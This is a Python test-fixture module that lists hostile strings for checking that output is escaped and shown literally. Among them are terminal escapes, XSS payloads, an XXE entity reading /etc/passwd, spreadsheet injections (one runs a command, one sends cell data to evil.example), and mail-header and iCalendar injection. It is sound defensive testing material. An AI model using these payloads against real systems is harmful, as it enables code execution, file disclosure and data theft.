"""Texts that do harm where they are not shown literally; for whatever prints, writes or sends."""

from typing import NamedTuple


class Nasty(NamedTuple):
    """A text, and a name by which a test tells it."""

    name: str
    text: str


NASTY = (
    # terminals
    Nasty("colour of a terminal", "\x1b[31mred\x1b[0m"),
    Nasty("title of a terminal", "\x1b]0;owned\x07after"),
    Nasty("link of a terminal", "\x1b]8;;https://evil.example\x1b\\here\x1b]8;;\x1b\\"),
    Nasty("C1 control", "\x9b31mred"),
    Nasty("bell and backspaces", "secret\x08\x08\x08\x08\x08\x08\x07public"),
    Nasty("carriage return", "overwritten\rshown"),
    # Unicode
    Nasty("override of direction", "invoice \u202efdp.exe"),
    Nasty("isolates of direction", "\u2066\u2067left\u2069"),
    Nasty("line and paragraph separators", "one\u2028two\u2029three\x85four"),
    Nasty("NUL", "before\x00after"),
    Nasty("lone surrogate", "before\ud800after"),
    Nasty("no characters", "\ufffe\uffff\U0001ffff\ufdd0"),
    Nasty("zero widths", "a\u200bb\u200cc\u200dd\ufeffe"),
    Nasty("piled marks", "Z" + "\u0301\u0302\u0303" * 30),
    Nasty("emoji joined", "👨‍👩‍👧‍👦🇯🇵"),
    Nasty("East Asian", "「日本・トルコ外相会談」　第８回会合；来春"),
    Nasty("right to left", "שלום العربية"),
    # rich
    Nasty("markup of rich", "[bold red]loud[/] [link=https://evil.example]x[/link] [/] :boom:"),
    # Markdown
    Nasty("emphasis", "*a* _b_ **c** __d__ ~~e~~ `f` ***g"),
    Nasty("heading", "# heading #"),
    Nasty("points", "- point"),
    Nasty("number", "1. first"),
    Nasty("number with a bracket", "12) twelfth"),
    Nasty("quotation", "> quoted"),
    Nasty("rule", "---"),
    Nasty("underline", "==="),
    Nasty("fence", "```\ncode\n```"),
    Nasty("code by its inset", "        code"),
    Nasty("link of Markdown", "[click](javascript:alert(1)) ![x](https://evil.example/x.png)"),
    Nasty("reference of Markdown", "[a]: https://evil.example"),
    Nasty("pipes", "a | b || c \\| d \\\\| e |"),
    Nasty("backslashes", "C:\\temp\\ \\* \\"),
    Nasty("entities", "&lt;b&gt; &amp; &#60; &nbsp;"),
    Nasty("mathematics", "$x^2$ and $$y$$"),
    Nasty("row of a table", "| --- | --- |"),
    # HTML and XML
    Nasty("script", "<script>alert(1)</script>"),
    Nasty("picture that acts", '<img src=x onerror="alert(1)">'),
    Nasty("end of a style", "</style></title></svg><b>"),
    Nasty("attribute", '" onmouseover="alert(1)" \''),
    Nasty("comment", "<!-- --> --!> <![CDATA[ ]]>"),
    Nasty("XML", "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>&b;"),
    # addresses
    Nasty("script as an address", "javascript:alert(1)"),
    Nasty("data as an address", "data:text/html,<script>alert(1)</script>"),
    Nasty("file as an address", "file:///etc/passwd"),
    Nasty("address with quotes", "https://example.org/\"onclick='alert(1)'><b>"),
    Nasty("address with signs", "see https://example.org/a_b_(c)?d=*e*&f=[g]|h~i."),
    # spreadsheets
    Nasty("formula", "=1+1"),
    Nasty("formula that acts", "=cmd|' /C calc'!A0"),
    Nasty("formula that calls out", '=HYPERLINK("https://evil.example?x="&A1,"click")'),
    Nasty("plus", "+1+1"),
    Nasty("minus", "-1+1"),
    Nasty("at", "@SUM(1,1)"),
    Nasty("tab before a formula", "\t=1+1"),
    Nasty("end of a line before a formula", "\r=1+1"),
    Nasty("space before a formula", "  =1+1"),
    Nasty("wide formula", "＝1+1"),
    Nasty("error of Excel", "#N/A"),
    Nasty("escape of Excel", "_x0041_ _x000D_ _x005F_"),
    Nasty("number as text", "00123"),
    Nasty("quotes and commas", '"a","b"\n"c";d'),
    # calendars
    Nasty("lines of iCalendar", "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:false"),
    Nasty("signs of iCalendar", "a\\nb;c,d:e\\\\"),
    # mail
    Nasty("lines of a mail's head", "x\r\nBcc: evil@example.org\r\n\r\nbody"),
    # sizes
    Nasty("nothing", ""),
    Nasty("only space", "   "),
    Nasty("100 kB in one word", "x" * 100_000),
    Nasty("100 kB of words", "word " * 20_000),
    Nasty("100 kB of formula", "=" + "1+" * 50_000 + "1"),
)
"""Each is to be shown literally, hidden characters made visible, and to break nothing."""
